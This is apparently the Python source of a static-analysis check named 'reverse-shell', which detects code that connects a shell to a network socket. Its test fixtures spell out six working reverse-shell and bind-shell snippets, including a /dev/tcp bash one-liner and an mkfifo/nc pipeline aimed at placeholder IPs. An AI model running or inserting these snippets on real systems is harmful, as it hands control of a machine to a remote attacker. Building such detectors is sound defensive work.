"""A shell or a program is wired to a socket: whoever is at the other end controls the machine.

The signs are a socket's descriptor copied over standard input and output (`os.dup2`) or given to a new process as its
streams, what a socket receives run as a command, or a shell command that does the same (`/dev/tcp`, `nc -e`, `socat
exec:`).  Remote administration has SSH.  See CWE-506, CWE-912 and MITRE ATT&CK T1059, T1095.
"""

from __future__ import annotations

from collections.abc import Iterator

import libcst as cst

from codeguard.checks._api import Bad, Check, Good, Hit, Miss
from codeguard.checks.malicious._calls import calls
from codeguard.checks.malicious._channels import sendings
from codeguard.checks.malicious._reach import reach
from codeguard.checks.malicious._shell import commands
from codeguard.knowledge.malicious import running
from codeguard.model import Confidence, Severity
from codeguard.syntax.unit import Unit

STREAMS = ("stdin", "stdout", "stderr")
OPENERS = (
    "connect",
    "connect_ex",
    "accept",
    "create_connection",
    "bind",
    "open_connection",
    "wrap_socket",
    "connect_async",
)


def find(unit: Unit) -> Iterator[Hit]:
    """Report the place where the streams are joined, or the command that joins them."""
    for command in unit.fact(commands):
        if running.SHELL_TO_SOCKET.search(command.text):
            yield Hit(command.call, "This command connects a shell to another host, which then controls the machine")
    if "socket" not in unit.text and "asyncio" not in unit.text and "telnetlib" not in unit.text:
        return
    known = unit.fact(calls)
    if not any(method in known.by_method for method in OPENERS):
        return
    starts = bool(unit.fact(commands))
    for call in (*known.by_name.get("os.dup2", ()), *known.by_name.get("os.dup", ())):
        if call.args and starts and _descriptor(call.args[0].value, unit):
            yield Hit(
                call,
                "This makes a network connection the standard input or output of the program that runs next: the other end controls it",
            )
            break
    for command in unit.fact(commands):
        given = [value for name in STREAMS if (value := unit.arg(command.call, None, name)) is not None]
        if any(_descriptor(value, unit) for value in given):
            yield Hit(
                command.call,
                "This runs a program whose input and output are a network connection: the other end controls it",
            )
        elif _piped(command.call, unit):
            yield Hit(
                command.call,
                "This runs a program and passes what a socket receives to its input: the other end controls it",
            )


def _descriptor(node: cst.BaseExpression, unit: Unit, hops: int = 0) -> bool:
    """A socket, or its `fileno()` or `makefile()`."""
    if (
        isinstance(node, cst.Call)
        and isinstance(node.func, cst.Attribute)
        and node.func.attr.value in {"fileno", "makefile", "detach"}
    ):
        return _socket(node.func.value, unit)
    if isinstance(node, cst.Name) and hops < 3:
        bindings = unit.scopes.look_up(node.value, node)
        if any(
            b.kind in {"assign", "walrus"} and b.value is not None and _descriptor(b.value, unit, hops + 1)
            for b in bindings
        ):
            return True
    return _socket(node, unit)


def _socket(node: cst.BaseExpression, unit: Unit) -> bool:
    name = unit.fact(reach).resolved(node)
    if name:
        return "socket" in name.lower() and "socketpair" not in name and not name.startswith("<local>")
    if not isinstance(node, cst.Name):
        return False
    for binding in unit.scopes.look_up(node.value, node):
        value = binding.value
        if (
            binding.kind == "unpack"
            and isinstance(value, cst.Call)
            and isinstance(value.func, cst.Attribute)
            and value.func.attr.value == "accept"
        ):
            return True
        if value is not None and "socket" in (named := unit.name(value) or "") and "socketpair" not in named:
            return True
    return False


def _piped(call: cst.Call, unit: Unit) -> bool:
    """Whether the process is a shell whose `stdin` is written with what a socket receives."""
    flow = unit.fact(reach)
    command = next((c for c in unit.fact(commands) if c.call is call), None)
    if (
        command is None
        or unit.arg(call, None, "stdin") is None
        or not any(running.SHELLS.search(word.split(" ")[0]) for word in command.argv if word)
    ):
        return False
    writes = unit.fact(calls).by_method
    return any(
        "remote" in flow.kinds(a.value)
        for method in ("write", "communicate", "send")
        for w in writes.get(method, ())
        for a in w.args
    ) and bool(unit.fact(sendings))


CHECK = Check(
    id="CGM004",
    name="reverse-shell",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    cwe=(506, 912),
    find=find,
    fix="Remove the code, and treat the machines that ran it as taken over.",
    bad=(
        Bad(
            "import socket, subprocess, os\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('192.0.2.10', 4444))\nos.dup2(s.fileno(), 0)  # finding\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n"
        ),
        Bad(
            "import pty, os, socket\n\ndef beat(h='192.0.2.99', p=53):\n    k = socket.socket(); k.connect((h, p))\n    [os.dup2(k.fileno(), n) for n in (0, 1, 2)]  # finding\n    pty.spawn('/bin/bash')\n"
        ),
        Bad(
            "import socket, subprocess\nc = socket.create_connection(('192.0.2.1', 9))\nsubprocess.Popen(['cmd.exe'], stdin=c.fileno(), stdout=c.fileno(), stderr=c.fileno())  # finding\n"
        ),
        Bad("import os\nos.system(\"bash -c 'bash -i >& /dev/tcp/192.0.2.3/443 0>&1'\")  # finding\n"),
        Bad(
            "import subprocess\nsubprocess.Popen('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.3 443 > /tmp/f', shell=True)  # finding\n"
        ),
        Bad(
            "import socket, subprocess\nsrv = socket.socket()\nsrv.bind(('', 5000))\nsrv.listen()\nc, _ = srv.accept()\np = subprocess.Popen(['/bin/sh'], stdin=c, stdout=c)  # finding\n"
        ),
    ),
    good=(
        Good(
            "import socketserver\n\nclass Echo(socketserver.StreamRequestHandler):\n    def handle(self):\n        for line in self.rfile:\n            self.wfile.write(line)\n"
        ),
        Good(
            "import os, sys\n\ndef daemonize(log):\n    if os.fork():\n        sys.exit(0)\n    fd = os.open(log, os.O_WRONLY | os.O_CREAT)\n    os.dup2(fd, 1)\n    os.dup2(fd, 2)\n"
        ),
        Good(
            "import socket\n\ndef is_open(port):\n    s = socket.create_connection(('localhost', port), timeout=2)\n    s.close()\n    return True\n"
        ),
        Good(
            "import subprocess\np = subprocess.Popen(['sort'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\np.communicate(b'a')\n"
        ),
    ),
    misses=(
        Miss(
            "import os\nfrom net import link\n\nos.dup2(link().fileno(), 0)  # finding\nos.execv('/bin/sh', ['sh'])\n",
            why="the socket of another file is not known to be one",
        ),
    ),
)
